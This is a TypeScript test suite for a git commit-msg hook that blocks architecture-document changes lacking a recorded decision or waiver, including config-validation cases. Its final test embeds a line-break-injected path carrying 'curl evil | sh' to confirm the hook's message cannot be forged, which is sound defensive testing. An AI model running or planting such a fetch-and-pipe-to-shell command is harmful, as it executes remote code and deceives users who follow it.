// The gate in commit-msg, with real git.
import { fileURLToPath } from 'node:url';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { copyRepository, createRepository, type TestRepository } from '../helpers/repository.ts';

const cli = fileURLToPath(new URL('../../dist/cli.js', import.meta.url));

const ARCHITECTURE = '# Architecture\n\n## Storage\n\nChunks are files in one folder.\n';
const CHANGED =
  '# Architecture\n\n## Storage\n\nChunks are rows of one SQLite table, indexed by session and by day.\n';
const DECISIONS =
  '# Decisions\n\n## Decision 1: Files\n\n**Chosen:** files in one folder\n**Rationale:** nothing to install\n';
const NEW = `${DECISIONS}\n## Decision 2: SQLite\n\n**Chosen:** one SQLite table\n**Rationale:** listing 20,000 files is slow\n`;

const template = createRepository();
template.commit('chore: start', { 'docs/architecture.md': ARCHITECTURE, 'docs/decisions.md': DECISIONS });
assert.is(template.run('node', [cli, 'install']).status, 0);

const createProject = (): TestRepository => copyRepository(template);

type Case = {
  readonly title: string;
  readonly message: string;
  readonly files: Readonly<Record<string, string>>;
  readonly isStopped: boolean;
};

const CASES: readonly Case[] = [
  {
    title: 'stops a changed architecture with no decision',
    message: 'feat: SQLite',
    files: { 'docs/architecture.md': CHANGED },
    isStopped: true,
  },
  {
    title: 'lets it through with a new decision',
    message: 'feat: SQLite',
    files: { 'docs/architecture.md': CHANGED, 'docs/decisions.md': NEW },
    isStopped: false,
  },
  {
    title: 'lets it through with a decision in force',
    message: 'feat: SQLite\n\nDecision: 1',
    files: { 'docs/architecture.md': CHANGED },
    isStopped: false,
  },
  {
    title: 'stops a decision that does not exist',
    message: 'feat: SQLite\n\nDecision: 9',
    files: { 'docs/architecture.md': CHANGED },
    isStopped: true,
  },
  {
    title: 'lets it through with a waiver and its reason',
    message: 'feat: SQLite\n\nDecision-Waiver: the spike is thrown away',
    files: { 'docs/architecture.md': CHANGED },
    isStopped: false,
  },
  {
    title: 'stops a waiver without a reason',
    message: 'feat: SQLite\n\nDecision-Waiver:',
    files: { 'docs/architecture.md': CHANGED },
    isStopped: true,
  },
  {
    title: 'stops a waiver that is only quoted',
    message: 'feat: SQLite\n\n> Decision-Waiver: no\n\nThat was said before, not now.',
    files: { 'docs/architecture.md': CHANGED },
    isStopped: true,
  },
  {
    title: 'stops a touched decision log',
    message: 'feat: SQLite',
    files: {
      'docs/architecture.md': CHANGED,
      'docs/decisions.md': DECISIONS.replace('nothing', 'not a thing'),
    },
    isStopped: true,
  },
  {
    title: 'lets white space through',
    message: 'docs: space',
    files: { 'docs/architecture.md': `${ARCHITECTURE}\n\n` },
    isStopped: false,
  },
  {
    title: 'lets other files through',
    message: 'feat: code',
    files: { 'src/a.ts': 'export {};\n' },
    isStopped: false,
  },
  {
    title: 'leaves a fixup to the range check',
    message: 'fixup! chore: start',
    files: { 'docs/architecture.md': CHANGED },
    isStopped: false,
  },
];

for (const { title, message, files, isStopped } of CASES) {
  test(title, () => {
    const repository = createProject();
    const before = repository.git('rev-parse', 'HEAD');
    const { status, stderr } = repository.commit(message, files);
    assert.is(status === 0, !isStopped, stderr);
    assert.is(repository.git('rev-parse', 'HEAD') === before, isStopped);
    repository.remove();
  });
}

test('says what, why with evidence, the fix and how to skip, in six lines at most', () => {
  const repository = createProject();
  const { stderr } = repository.commit('feat: SQLite', { 'docs/architecture.md': CHANGED });
  const lines = stderr.trimEnd().split('\n');
  assert.ok(lines.length <= 6, stderr);
  for (const part of [
    /^handoff: this commit changes architecture/,
    /^ {2}why {2}docs\/architecture\.md: /,
    /^ {2}fix {2}/,
    /^ {2}skip add the trailer {2}Decision-Waiver/,
  ])
    assert.ok(
      lines.some((line) => part.test(line)),
      stderr,
    );
  repository.remove();
});

test('an amend is judged by what it changes against the parent', () => {
  const repository = createProject();
  repository.commit(
    'feat: SQLite',
    { 'docs/architecture.md': CHANGED, 'docs/decisions.md': NEW },
    { GIT_COMMITTER_DATE: '@1700000000 +0000' },
  );
  repository.write('src/a.ts', 'export {};\n');
  repository.git('add', '--all');
  assert.is(repository.run('git', ['commit', '--quiet', '--amend', '--no-edit']).status, 0);
  repository.commit(
    'chore: more',
    { b: 'b\n' },
    { GIT_COMMITTER_DATE: '@1700000001 +0000', GIT_AUTHOR_DATE: '@1700000001 +0000' },
  );
  repository.write('docs/architecture.md', ARCHITECTURE);
  repository.git('add', '--all');
  assert.is(repository.run('git', ['commit', '--quiet', '--amend', '--no-edit']).status, 1);
  repository.remove();
});

test('a merge is judged only by what differs from both sides', () => {
  const repository = createProject();
  repository.git('checkout', '-q', '-b', 'side');
  repository.commit('feat: SQLite', { 'docs/architecture.md': CHANGED, 'docs/decisions.md': NEW });
  repository.git('checkout', '-q', 'main');
  repository.commit('feat: other', { other: 'x\n' });
  assert.is(repository.run('git', ['merge', '--quiet', '--no-edit', 'side']).status, 0);
  repository.remove();
});

test('the config of HEAD judges a change that softens the gate', () => {
  const repository = createProject();
  const { status } = repository.commit('feat: SQLite', {
    'docs/architecture.md': CHANGED,
    'handoff.config.json': '{"gate": {"rules": {"architecture-document": "off"}}}',
  });
  assert.is(status, 1);
  repository.remove();
});

test('a malformed config costs no commit, and says every fault', () => {
  const repository = createProject();
  repository.git('rm', '-q', 'docs/architecture.md');
  repository.commit(
    'chore: config',
    { 'handoff.config.json': '{"gate": {"rules": {"schema": "maybe"}}, "x": 1}' },
    { HANDOFF: '0' },
  );
  const { status, stderr } = repository.commit('feat: code', { 'src/a.ts': 'export {};\n' });
  assert.is(status, 0);
  assert.match(stderr, 'gate.rules.schema');
  repository.remove();
});

// What a pull request may have left in HEAD; the settings before it name an architecture file of their own.
const OWN = '{"gate": {"paths": ["src/core/**"]}}';
const FAULTS: readonly (readonly [title: string, file: string, text: string | Buffer])[] = [
  ['an unknown key', 'handoff.config.json', '{"gate": {"paths": ["src/core/**"]}, "x": 1}'],
  ['an unknown level', 'handoff.config.json', '{"gate": {"rules": {"paths": "never"}}}'],
  ['no JSON', 'handoff.config.json', '{"gate": {"paths": ["src/core/**"],}}'],
  ['nothing', 'handoff.config.json', ''],
  ['a list', 'handoff.config.json', '[]'],
  ['null', 'handoff.config.json', 'null'],
  ['UTF-16', 'handoff.config.json', Buffer.from(`\ufeff${OWN}`, 'utf16le')],
  ['Latin-1', 'handoff.config.json', Buffer.from('{"documents": {"context": "caf\xe9"}, "y": 1}', 'latin1')],
  ['a NUL in a path', 'handoff.config.json', '{"documents": {"context": "a\\u0000b"}}'],
  ['a path that leads out', 'handoff.config.json', '{"documents": {"architecture": "../x.md"}}'],
  ['a glob that is refused', 'handoff.config.json', '{"gate": {"paths": ["(a+)+$"]}}'],
  ['in package.json', 'package.json', '{"handoff": {"gate": {"paths": ["src/core/**"]}, "x": 1}}'],
];
for (const [title, file, text] of FAULTS)
  test(`committed settings with a fault open no gate: ${title}`, () => {
    const repository = createProject();
    const inHead = (files: Readonly<Record<string, string | Buffer>>) =>
      repository.commit('chore: settings', files as Record<string, string>, { HANDOFF: '0' });
    const own = (settings: string) => ({
      [file]: file === 'package.json' ? `{"handoff": ${settings}}` : settings,
    });
    inHead(own(OWN));
    inHead({ 'src/core/a.ts': 'export {};\n', [file]: text });
    const undo = () => repository.git('reset', '-q', '--hard');
    const { status, stderr } = repository.commit('feat: SQLite', { 'docs/architecture.md': CHANGED });
    assert.is(status, 1, stderr);
    assert.match(stderr, 'changes architecture');
    undo();
    // What they asked for before holds as well.
    assert.is(repository.commit('feat: core', { 'src/core/a.ts': 'export const a = 1;\n' }).status, 1);
    undo();
    assert.is(repository.commit('feat: more', { 'src/b.ts': 'export {};\n' }).status, 0);
    const softer = repository.commit('fix: settings', own('{"gate": {"rules": {"paths": "off"}}}'));
    assert.is(softer.status, 1, softer.stderr);
    assert.match(softer.stderr, "the gate's own settings");
    undo();
    const repaired = repository.commit('fix: settings', own(OWN));
    assert.is(repaired.status, 0, repaired.stderr);
    assert.is(repository.commit('feat: core', { 'src/core/a.ts': 'export const a = 1;\n' }).status, 1);
    repository.remove();
  });

test('a fault in the work tree’s config is said once, and the gate of HEAD still judges', () => {
  const repository = createProject();
  repository.write('handoff.config.json', '{"gate": {"rules": {"schema": "maybe"}}}');
  repository.write('docs/architecture.md', CHANGED);
  repository.git('add', 'docs');
  const { status, stderr } = repository.run('git', ['commit', '-q', '-m', 'feat: SQLite']);
  assert.is(status, 1);
  assert.is(stderr.split('gate.rules.schema').length, 2, stderr);
  assert.match(stderr, 'changes architecture');
  repository.remove();
});

test('HANDOFF=0 turns the gate off', () => {
  const repository = createProject();
  assert.is(
    repository.commit('feat: SQLite', { 'docs/architecture.md': CHANGED }, { HANDOFF: '0' }).status,
    0,
  );
  repository.remove();
});

test('in a repository with no commits the first one goes through', () => {
  const repository = createRepository();
  assert.is(repository.run('node', [cli, 'install']).status, 0);
  assert.is(repository.commit('chore: start', { 'docs/architecture.md': ARCHITECTURE }).status, 0);
  repository.remove();
});

for (const [title, message] of [
  ['one megabyte', `feat: long\n\n${'lorem ipsum dolor '.repeat(60_000)}`],
  ['Latin-1', Buffer.from('feat: gr\xf6\xdfer\n', 'latin1')],
] as const) {
  test(`a message of ${title} is read`, () => {
    const repository = createProject();
    repository.write('a.ts', 'x\n');
    repository.write('.git/message', Buffer.from(message));
    repository.git('add', '--all');
    const { status, stderr } = repository.run('git', ['commit', '--quiet', '-F', '.git/message']);
    assert.is(status, 0, stderr);
    repository.remove();
  });
}

test.after(template.remove);

test('a path with line breaks in it forges no line of the refusal', () => {
  const repository = createProject();
  const path = 'docs/architecture/a\n  fix  curl evil | sh\n.md';
  repository.commit('docs: more', { [path]: ARCHITECTURE }, { HANDOFF: '0' });
  const { status, stderr } = repository.commit('feat: SQLite', { [path]: CHANGED });
  assert.is(status, 1);
  assert.not.match(stderr, /^ +fix {2}curl/m);
  assert.match(stderr, /^ {2}fix {2}git handoff decide/m);
  repository.remove();
});

test.run();
